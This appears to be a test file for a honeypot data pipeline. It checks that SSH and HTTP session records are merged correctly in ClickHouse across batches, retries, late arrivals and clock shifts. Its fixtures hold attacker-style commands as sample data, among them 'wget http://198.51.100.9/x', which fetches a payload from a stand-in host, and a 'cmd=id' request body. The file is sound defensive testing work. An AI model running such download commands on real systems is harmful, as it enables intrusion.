import { defineQuery, run } from "@noisefloor/clickhouse/client/query.ts";
import { explainRejection } from "@noisefloor/ingest/formats/explain-rejection.ts";
import { ingestBatch } from "@noisefloor/ingest/pipeline/pipeline.ts";
import type { IncomingRecord } from "@noisefloor/ingest/record.ts";
import fc from "fast-check";
import { afterEach, beforeEach, expect, onTestFinished, test } from "vitest";
import { z } from "zod";
import { createWorld, RETENTION_DAYS, storingIn, type World } from "../../support/worlds/world.ts";

const NOW = Date.parse("2026-11-20T14:30:00Z");
let world: World;
beforeEach(async () => {
  world = await createWorld(() => NOW);
});
afterEach(() => world.close());

const stored = defineQuery({
  name: "test-sessions",
  sql: `SELECT observation_id AS id, toString(source_ip) AS ip, toUnixTimestamp64Milli(observed_at) AS at, destination_port AS port,
      ssh_banner AS banner, login_attempts AS logins, arraySort(arrayMap(c -> c.username, credentials)) AS names,
      commands, established, http_body_head AS head, length(http_body_sha256) AS digest
    FROM observations FINAL ORDER BY ip, id, at`,
  params: z.object({}),
  row: z.object({
    id: z.string(),
    ip: z.string(),
    at: z.int(),
    port: z.int().nullable(),
    banner: z.string(),
    logins: z.int(),
    names: z.array(z.string()),
    commands: z.array(z.string()),
    established: z.boolean(),
    head: z.string(),
    digest: z.int(),
  }),
});
const rows = () => run(world.client, stored, {});

/** What a sensor sends about a session, record by record. */
type Part = Record<string, unknown>;

let number = 0;
const part = (session: string, ip: string, secondsAgo: number, members: Part): Part => ({
  observation_id: `part-${number++}`,
  observed_at: new Date(NOW - secondsAgo * 1_000).toISOString(),
  sensor_id: "pot",
  source_ip: ip,
  session_id: session,
  ...members,
});

/** Of all that a session's records say here, only this proves contact: the others name no transport. */
const login = (username: string) => ({ credentials: [{ username }], login_attempts: 1, transport: "tcp" });

/** A session as a honeypot logs it: the connection, the client's banner, logins, commands. */
function sessionOf(
  session: string,
  ip: string,
  secondsAgo: number,
  names: readonly string[],
  commands: readonly string[],
) {
  let second = secondsAgo;
  const next = (members: Part) => part(session, ip, second--, members);
  return [
    next({ destination_port: 22, transport: "tcp" }),
    next({ ssh: { banner: `SSH-2.0-${session}` } }),
    ...names.map((name) => next(login(name))),
    ...commands.map((command) => next({ commands: [command] })),
  ];
}

test("a session is one observation with all that its records know", async () => {
  await world.store(sessionOf("a1", "45.83.64.1", 600, ["root", "admin", "root"], ["uname -a", "id", "uname -a"]));
  expect(await rows()).toEqual([
    {
      id: "session:a1",
      ip: "45.83.64.1",
      at: NOW - 600_000,
      port: 22,
      banner: "SSH-2.0-a1",
      logins: 3,
      names: ["admin", "root"],
      commands: ["uname -a", "id"],
      established: true,
      head: "",
      digest: 0,
    },
  ]);
});

test("sessions come out the same however their records are cut into batches, repeated, and stored concurrently", async () => {
  const name = fc.constantFrom("root", "admin", "pi", "oracle");
  const command = fc.constantFrom("id", "uname -a", "wget http://198.51.100.9/x", "ps");
  const sessions = fc.array(
    fc.record({
      names: fc.array(name, { maxLength: 5 }),
      commands: fc.array(command, { maxLength: 4 }),
      ip: fc.constantFrom("45.83.64.1", "45.83.64.2"),
    }),
    { minLength: 1, maxLength: 5 },
  );
  const cuts = fc.array(fc.integer({ min: 2, max: 12 }), { minLength: 20, maxLength: 20 });
  let round = 0;
  await fc.assert(
    fc.asyncProperty(sessions, cuts, fc.boolean(), async (wanted, sizes, isConcurrent) => {
      round++;
      const id = (index: number) => `r${round}-${index}`;
      const each = wanted.map(({ names, commands, ip }, index) =>
        sessionOf(id(index), ip, 900 - index, names, commands),
      );
      // As a sensor's log has them: the sessions side by side.
      const log = Array.from({ length: 12 }, (_, turn) =>
        each.flatMap((records) => records.slice(turn, turn + 1)),
      ).flat();
      const batches: Part[][] = [];
      for (let start = 0, turn = 0; start < log.length; turn++) {
        const size = sizes[turn % sizes.length] ?? 1;
        // A shipper that reads the end of the batch before once more.
        batches.push(log.slice(Math.max(0, start - (turn % 3)), start + size));
        start += size;
      }
      if (isConcurrent) await Promise.all([world.store(log), world.store(log)]);
      else for (const batch of batches) await world.store(batch);
      const found = (await rows()).filter((row) => row.id.startsWith(`session:r${round}-`));
      const expected = wanted.map(({ names, commands, ip }, index) => ({
        id: `session:${id(index)}`,
        ip,
        at: NOW - (900 - index) * 1_000,
        port: 22,
        banner: `SSH-2.0-${id(index)}`,
        logins: names.length,
        names: [...new Set(names)].sort(),
        commands: [...new Set(commands)],
        established: names.length > 0,
        head: "",
        digest: 0,
      }));
      const order = (a: { ip: string; id: string }, b: { ip: string; id: string }) =>
        a.ip === b.ip ? (a.id < b.id ? -1 : 1) : a.ip < b.ip ? -1 : 1;
      expect(found).toEqual(expected.sort(order));
    }),
    { numRuns: 4 },
  );
});

test("of two states of a session that one insert has, the later one is continued", async () => {
  // The database is used again, and a deletion would wait for its merges without end.
  onTestFinished(async () => void (await world.client.command({ query: "SYSTEM START MERGES observations" })));
  await world.client.command({ query: "SYSTEM STOP MERGES observations" });
  const sink = storingIn(world.client);
  const store = (parts: readonly Part[]) => {
    const toRecord = (one: Part, index: number): IncomingRecord => ({
      bytes: Buffer.from(JSON.stringify(one)),
      fallbackId: String(index),
    });
    return ingestBatch(parts.map(toRecord), {
      catalogue: world.catalogue,
      retentionDays: () => RETENTION_DAYS,
      right: "everything",
      explain: explainRejection,
      now: () => NOW,
      sink,
      storeDeadLetters: async () => {},
    }).stored;
  };
  const id = (index: number) => `at-once-${index}`;
  const sessions = Array.from({ length: 20 }, (_, index) => `45.83.65.${index}`);
  const runAll = (command: string) =>
    sessions.map((ip, index) => part(id(index), ip, 600, { commands: [`${command} ${index}`] }));
  // While the first is stored, the others wait, and are inserted together then.
  await Promise.all([store([part("first", "45.83.64.1", 600, {})]), store(runAll("one")), store(runAll("two"))]);
  await world.store(runAll("three"));
  const commands = (await rows()).filter((row) => row.id.startsWith("session:at-once")).map((row) => row.commands);
  expect(commands).toHaveLength(sessions.length);
  expect(commands).toEqual(
    expect.arrayContaining(sessions.map((_, index) => [`one ${index}`, `two ${index}`, `three ${index}`])),
  );
});

test("a record that comes hours later finds its session in the store, and a day later it is another session", async () => {
  const [connect, banner] = sessionOf("late", "45.83.64.3", 40 * 3_600, [], []);
  await world.store([connect ?? {}]);
  await world.store([banner ?? {}, part("late", "45.83.64.3", 30 * 3_600, { commands: ["late"] })]);
  await world.store([part("late", "45.83.64.3", 60, { commands: ["other"] })]);
  expect((await rows()).map(({ at, port, commands }) => [at, port, commands])).toEqual([
    [NOW - 40 * 3_600_000, 22, ["late"]],
    [NOW - 60_000, null, ["other"]],
  ]);
});

test("contact that a late record proves is the session's, and a record that comes again does not take it back", async () => {
  const [connect = {}] = sessionOf("slow", "45.83.64.5", 7_200, [], []);
  const flow = part("slow", "45.83.64.5", 60, { transport: "tcp", established: true });
  const established = async () => (await rows()).map((row) => row.established);
  await world.store([connect]);
  expect(await established()).toEqual([false]);
  await world.store([flow]);
  expect(await established()).toEqual([true]);
  await world.store([connect]);
  expect(await established()).toEqual([true]);
});

test("with the clock set back, later records of a session are kept", async () => {
  const records = sessionOf("late", "45.83.64.9", 600, ["a", "b", "c", "d", "e"], []);
  await world.store(records.slice(0, 5));
  // As if they had been received two hours later than they were.
  const ahead = "SELECT * REPLACE (received_at + toIntervalHour(2) AS received_at) FROM observations";
  await world.client.command({ query: `INSERT INTO observations ${ahead}` });
  await world.store(records.slice(5, 6));
  await world.store(records.slice(6));
  expect(await rows()).toMatchObject([{ logins: 5, names: ["a", "b", "c", "d", "e"] }]);
});

test("what is kept of a request's body stays when later records of its session come", async () => {
  await world.store([part("web", "45.83.64.4", 60, { http: { path: "/x", body: "cmd=id\n" } })]);
  await world.store([part("web", "45.83.64.4", 59, { http: { user_agent: "curl" } })]);
  expect((await rows()).map(({ head, digest }) => [head, digest])).toEqual([["cmd=id.", 64]]);
});
